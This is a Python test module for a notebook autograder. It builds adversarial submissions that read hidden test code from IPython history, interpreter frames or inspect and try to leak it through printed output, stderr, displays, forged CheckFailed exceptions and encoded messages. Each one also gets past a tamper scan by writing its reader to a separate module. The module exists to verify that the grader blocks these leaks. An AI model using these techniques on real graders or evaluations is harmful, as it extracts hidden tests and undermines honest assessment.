"""Submissions that try to smuggle the hidden tests out through the feedback.

While a test cell runs, the student's function under test can read the test cell's own code,
hidden tests included, from IPython's input history (``In``, ``_ih``, the history manager), from
the interpreter's frames and ``linecache``, or with ``inspect``; then print it, write it to stderr,
display it, rewrite an earlier display with it, raise it, put it in an exception that a check
reports, stash it for a later cell, in
plain text or encoded (base64, hex, rot13, reversed, split across lines). Each submission here is
the instructor's solution with one such attack added (the reading written into a module that the
cell imports, past autograder/grading/tamper_scan.py's reading of the cells, so that what is tested is the
feedback); none may get hidden test code into the
feedback page, Gradescope's results.json, grades.csv or the class report, and every student still
gets a page with the checks' verdicts.

``ATTACKS`` are submissions of 01_derivatives (the assignment of the adversarial batch, see
adversarial.py for the points per exercise), in the shape of adversarial.Attack: the score is what
the gradebook must show; ``reason`` appears in what the grader reports for the student (the
autograded notebook, which the instructor sees: there the attack's output is, tagged "leak-...").
Writing to stderr in a test cell fails it (nbgrader's rule), so those attacks lose Exercise 1's 15
points. ``CHECK_ATTACKS`` are submissions of 02_backprop, whose checks call the student's
operations through ``call_student`` and quote what they raise: Exercise 2's Add and Multiply test
(10 points) fails.
"""

from __future__ import annotations

import nbformat

from . import cell, source_notebook
from .adversarial import Attack, Context

ASSIGNMENT, NOTEBOOK = "01_derivatives", "01_derivatives.ipynb"
CHECK_ASSIGNMENT, CHECK_NOTEBOOK = "02_backprop", "02_backprop.ipynb"

# How the function under test reads the code of the test cell that is running: _test_code() -> str.
READERS = {
    "In": "import __main__ as _main\n\ndef _test_code():\n    return _main.In[-1]\n",
    "_ih": "import __main__ as _main\n\ndef _test_code():\n    return _main._ih[-1]\n",
    "history": ("import __main__ as _main\n\n"
                "def _test_code():\n"
                "    return getattr(_main.get_ipython(), 'history' + '_manager').input_hist_raw[-1]\n"),
    "frames": ("import traceback\n\n"
               "def _test_code():\n"
               "    frame = getattr(traceback.sys, '_get' + 'frame')(1)\n"
               "    while frame is not None:\n"
               "        lines = traceback.linecache.getlines(getattr(frame, 'f_' + 'code').co_filename)\n"
               "        if any(_MARK in line for line in lines):\n"
               "            return ''.join(lines)\n"
               "        frame = getattr(frame, 'f_' + 'back')\n"
               "    return ''\n"),
    "inspect": ("import pydoc\n\n"
                "def _test_code():\n"
                "    for info in pydoc.inspect.stack():\n"
                "        try:\n"
                "            code = pydoc.inspect.getsource(info.frame)\n"
                "        except (OSError, TypeError):\n"
                "            continue\n"
                "        if _MARK in code:\n"
                "            return code\n"
                "    return ''\n"),
}
# The delimiter of hidden tests, spelled so that the attack's own code does not contain it.
MARK = "_MARK = 'BEGIN ' + 'HIDDEN TESTS'\n"

# What it does with the code (`code`), once per test cell; the function then returns the right value.
ENCODERS = ("import base64, codecs\n\n"
            "def _encodings(code):\n"
            "    return {'plain': code, 'base64': base64.b64encode(code.encode()).decode(),\n"
            "            'hex': code.encode().hex(), 'rot13': codecs.encode(code, 'rot13'), 'reversed': code[::-1],\n"
            "            'lines': '\\n'.join(code)}\n")

EMITTERS = {
    "print": "for name, text in _encodings(code).items():\n    print(f'leak-{name}:', text)",
    "stderr": "import sys\nfor name, text in _encodings(code).items():\n    sys.stderr.write(f'leak-{name}: {text}\\n')",
    "display": ("import html\n"
                "display({'text/html': '<pre>leak-html: ' + html.escape(code) + '</pre>',\n"
                "         'text/markdown': 'leak-markdown:\\n```\\n' + code + '\\n```',\n"
                "         'text/plain': 'leak-data: ' + code}, raw=True)"),
    "warning": "import warnings\nwarnings.warn('leak-warning: ' + _encodings(code)['base64'])",
    "stash": "_stash.append(code)",
    "update display": ("_early.update({'text/plain': 'leak-update: ' + code,\n"
                       "               'text/html': '<pre>leak-update: ' + _encodings(code)['base64'] + '</pre>'}, raw=True)"),
}
# A display the solution cell makes before any test ran, for "update display" to rewrite later.
EARLY_DISPLAY = "_early = display({'text/plain': 'nothing to see'}, raw=True, display_id=True)\n"

# Raising instead: the test cell stops with the code in the exception.
RAISERS = {
    "ValueError": "raise ValueError('leak-raise: ' + code)",
    "forged CheckFailed": ("from autograder.checks.messages import CheckFailed as _Failed\n"
                           "raise _Failed('Exercise 1 (forward difference): leak-forged ' + code)"),
    "forged CheckFailed, split and base64": (
        "from autograder.checks.messages import CheckFailed as _Failed\n"
        "raise _Failed('Exercise 1 (forward difference): leak-forged ' + '|'.join(code.split()) + ' '\n"
        "              + _encodings(code)['base64'] + ' ' + _encodings(code)['hex'])"),
    "an exception class named by the code": (
        "raise type('leak_' + _encodings(code)['hex'][:200], (Exception,), {})(_encodings(code)['rot13'])"),
    "a grader error name": (
        "raise type('KernelDied', (Exception,), {})('leak-grader ' + _encodings(code)['base64'])"),
}

LATER_CELL = ("for code in _stash:\n"
              "    for name, text in _encodings(code).items():\n"
              "        print(f'leak-later-{name}:', text)\n"
              "raise RuntimeError('leak-later-raise: ' + _stash[0])")


def _forward_difference(action: str) -> str:
    """forward_difference (Exercise 1) doing `action` with the test cell's code, once per test cell, then
    returning the right value."""
    body = "\n".join("        " + line for line in action.splitlines())
    return ("_done, _stash = set(), []\n\n"
            "def forward_difference(f, x, h):\n"
            "    code = _test_code()\n"
            "    if code not in _done:\n"
            "        _done.add(code)\n"
            f"{body}\n"
            "    return (f(x + h) - f(x)) / h\n")


def _reader_module(reader: str) -> str:
    """Code that writes the reader into a module of the student's working folder and imports it: the
    tamper scan reads the notebook's cells, not the files they write, so what is tested here is the
    feedback, whatever the scan would have found in the reader."""
    return ("import pathlib as _pathlib, sys as _sys\n"
            f"_pathlib.Path('_reader.py').write_text({(MARK + READERS[reader])!r})\n"
            "_sys.path.insert(0, '.')\n"
            "from _reader import _test_code\n")


def _submission(reader: str, action: str, later_cell: bool = False, early: str = ""):
    def build(ctx: Context) -> dict[str, bytes]:
        nb = source_notebook(ASSIGNMENT, ctx.course_root)
        target = cell(nb, "ex1-solution")
        head, _, rest = target.source.partition("def backward_difference")
        target.source = (_reader_module(reader) + "\n" + ENCODERS + "\n" + _forward_difference(action)
                         + "\n\ndef backward_difference" + rest + "\n\n" + early)
        if later_cell:
            nb.cells.append(nbformat.v4.new_code_cell(LATER_CELL))
        return {NOTEBOOK: nbformat.writes(nb).encode("utf-8")}
    return build


ATTACKS = [
    Attack("leak: prints the test cell read from In (through __main__), in six encodings", _submission("In", EMITTERS["print"]), 100,
           "leak-base64"),
    Attack("leak: writes the test cell read from _ih (through __main__) to stderr, encoded", _submission("_ih", EMITTERS["stderr"]), 85,
           "leak-rot13"),
    Attack("leak: displays the test cell read from the history manager as HTML, Markdown and data",
           _submission("history", EMITTERS["display"]), 100, ""),
    Attack("leak: warns with the test cell read through frames and linecache (by getattr), base64",
           _submission("frames", EMITTERS["warning"]), 85, "leak-warning"),
    Attack("leak: prints the test cell read with inspect (pydoc.inspect)", _submission("inspect", EMITTERS["print"]), 100, "leak-hex"),
    Attack("leak: stashes the test cell during the test and prints it in a later cell",
           _submission("In", EMITTERS["stash"], later_cell=True), 100, "leak-later-plain"),
    Attack("leak: rewrites a display made before the tests (update_display) with the test cell",
           _submission("_ih", EMITTERS["update display"], early=EARLY_DISPLAY), 100, ""),
    Attack("leak: raises ValueError with the test cell", _submission("frames", RAISERS["ValueError"]), 85,
           "leak-raise"),
    Attack("leak: raises a forged CheckFailed quoting the test cell", _submission("In", RAISERS["forged CheckFailed"]),
           85, "leak-forged"),
    Attack("leak: raises a forged CheckFailed with the test cell split, in base64 and hex",
           _submission("history", RAISERS["forged CheckFailed, split and base64"]), 85, "leak-forged"),
    Attack("leak: raises an exception whose class name is the test cell in hex",
           _submission("_ih", RAISERS["an exception class named by the code"]), 85, "leak_"),
    Attack("leak: raises an exception named like a grader error, with the test cell in base64",
           _submission("inspect", RAISERS["a grader error name"]), 85, "leak-grader"),
]


# -- through a check's own message (02_backprop: check_operation calls the student's Operation) ---



def _check_submission(action: str):
    """Add.forward (Exercise 2) doing `action` with the test cell's code."""
    def build(ctx: Context) -> dict[str, bytes]:
        nb = source_notebook(CHECK_ASSIGNMENT, ctx.course_root)
        target = cell(nb, "ex2-solution")
        marker = "class Add(ag.Operation):"
        if marker not in target.source:
            raise ValueError(f"{marker!r} is not in ex2-solution")
        body = "\n".join("            " + line for line in action.splitlines())
        hook = ("    def forward(self, a, b):\n"
                "        code = _test_code()\n"
                "        if _MARK in code:\n"
                f"{body}\n"
                "        return self._forward(a, b)\n\n")
        source = MARK + _reader_module("frames") + "\n" + ENCODERS + "\n" + target.source
        source = source.replace("    def forward(self, a, b):", "    def _forward(self, a, b):", 1)
        target.source = source.replace(marker, marker + "\n" + hook, 1)
        return {CHECK_NOTEBOOK: nbformat.writes(nb).encode("utf-8")}
    return build


CHECK_ATTACKS = [
    Attack("leak: Add.forward raises the test cell, which check_operation quotes",
           _check_submission("raise ValueError('leak-quoted ' + code)"), 90, "leak-quoted"),
    Attack("leak: Add.forward renames its class to the test cell in base64, then fails",
           _check_submission("type(self).__name__ = 'leak' + _encodings(code)['base64'].replace('=', '')[:300]\n"
                             "raise ValueError(_encodings(code)['hex'])"), 90, "leak"),
]
